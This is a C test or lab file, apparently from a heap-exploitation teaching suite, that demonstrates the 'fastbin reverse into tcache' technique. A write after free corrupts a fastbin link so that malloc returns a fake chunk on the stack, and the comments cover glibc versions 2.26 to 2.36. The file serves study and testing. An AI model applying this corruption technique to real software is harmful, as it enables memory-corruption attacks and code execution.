/*
 * fastbin_reverse_into_tcache.c - corrupt one fastbin link, and malloc moves
 * a fake chunk into the tcache for you.
 *
 * When malloc takes a chunk from a fastbin and the tcache bin of that size
 * has room, it moves the fastbin's remaining chunks into the tcache, one by
 * one, following their links and checking nothing but (from 2.32) their
 * alignment.  A corrupted link at the end of the fastbin is followed too: the
 * fake chunk it names is put in the tcache, which writes a heap pointer (its
 * tcache link) into the fake chunk, and the next malloc returns it.  Unlike
 * fastbin_dup_into_stack.c, the fake chunk needs no size field.
 *
 * The counts make it work: seven chunks in the tcache, seven in the fastbin;
 * the tcache is emptied; one malloc takes the fastbin's head and moves the
 * other six, then the fake one as seventh, which fills the tcache bin, so the
 * fake chunk's own link is never followed.
 *
 * Works on 2.26 ... 2.36; before 2.26 there is no tcache.  From 2.32 the
 * link is written encoded.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("fastbin_reverse_into_tcache", "Corrupt the last fastbin chunk's link: moving the fastbin into "
                                                   "the tcache moves the fake chunk too, and malloc returns it.");
    if (!release_has_tcache())
        return technique_not_here("the tcache came with glibc 2.26");

    _Alignas(16) size_t stack_area[8] = {0};
    void *target = &stack_area[2];

    char *chunks[2 * TCACHE_FILL];
    for (int i = 0; i < 2 * TCACHE_FILL; i++)
        chunks[i] = arenalloc_malloc(0x28);
    for (int i = 0; i < 2 * TCACHE_FILL; i++)
        arenalloc_free(chunks[i]);
    char *victim = chunks[TCACHE_FILL];
    say("Fourteen chunks of 0x30 freed: the first seven fill the tcache bin, the next seven go to the fastbin,");
    say("whose last chunk is victim = %p.  The target on the stack: %p.", (void *)victim, target);

    /* LAB(tech-fastbin_reverse_into_tcache) BEGIN */
    *(uintptr_t *)victim = protect_ptr(victim, stack_area);
    /* LAB(tech-fastbin_reverse_into_tcache) END */
    say("A write after free: victim's fastbin link names the fake chunk at %p.", (void *)stack_area);

    tcache_empty(0x28);
    char *p = arenalloc_malloc(0x28);
    say("malloc(0x28) = %p: the fastbin's head; the other six and the fake chunk move into the tcache.",
        (void *)p);
    say("The fake chunk's first word now holds a tcache link: %#zx.", stack_area[2]);

    char *q = arenalloc_malloc(0x28);
    say("malloc(0x28) = %p.", (void *)q);

    return technique_end(q == target, "malloc returned the target on the stack");
}
